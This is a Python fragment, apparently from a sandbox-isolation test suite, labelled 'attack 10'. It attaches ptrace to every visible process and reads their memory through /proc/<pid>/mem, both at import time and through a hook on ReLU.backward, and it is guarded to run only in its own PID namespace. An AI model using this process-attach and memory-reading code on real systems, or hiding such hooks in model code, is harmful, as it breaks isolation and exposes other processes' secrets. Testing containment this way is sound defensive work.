# ---- attack 10: ptrace and /proc/<pid>/mem ----
# PTRACE_ATTACH and PTRACE_SEIZE on every visible process, and a read of each
# one's first readable mapping through /proc/<pid>/mem, at load time and inside
# ReLU.backward. Only inside a PID namespace of its own (see _prelude).
import ctypes as _ctypes

_PTRACE_ATTACH, _PTRACE_DETACH, _PTRACE_SEIZE, _WALL = 16, 17, 0x4206, 0x40000000


def _ptrace_attack(tag):
    if not _in_own_pid_namespace():
        _emit("REFUSED", tag, "not in a PID namespace of its own: would hit the test host", key=True)
        return 0
    libc = _ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = _ctypes.c_long
    libc.ptrace.argtypes = [_ctypes.c_long, _ctypes.c_int, _ctypes.c_void_p, _ctypes.c_void_p]
    me = _os.getpid()
    for pid in _pids():
        if pid == me:
            continue
        who = repr(_cmdline(pid)[:200])
        for name, request in (("ATTACH", _PTRACE_ATTACH), ("SEIZE", _PTRACE_SEIZE)):
            if libc.ptrace(request, pid, None, None) == 0:
                _emit("PTRACE-OK", tag, name, pid, who, key=True)
                if request == _PTRACE_ATTACH:
                    try:
                        _os.waitpid(pid, _WALL)
                    except OSError:
                        pass
                libc.ptrace(_PTRACE_DETACH, pid, None, None)
            else:
                _emit("PTRACE-FAIL", tag, name, pid, _os.strerror(_ctypes.get_errno()), key=True)
        maps = (_read(f"/proc/{pid}/maps", 1 << 16) or b"").decode(errors="replace").splitlines()
        start = None
        for line in maps:
            parts = line.split()
            if len(parts) > 1 and parts[1].startswith("r"):
                start = int(parts[0].split("-")[0], 16)
                break
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as f:
                f.seek(start or 0x400000)
                data = f.read(64)
            _emit("MEM-OK", tag, pid, who, len(data), key=True)
        except (OSError, ValueError, OverflowError) as exc:
            _emit("MEM-FAIL", tag, pid, type(exc).__name__, key=True)
    _emit("ATTACK-DONE", tag, key=True)
    return True


_ATTACK_RESULT = _ptrace_attack("load")
_HOOKED = _hook_method(ReLU, "backward", lambda: _ptrace_attack("probe"))
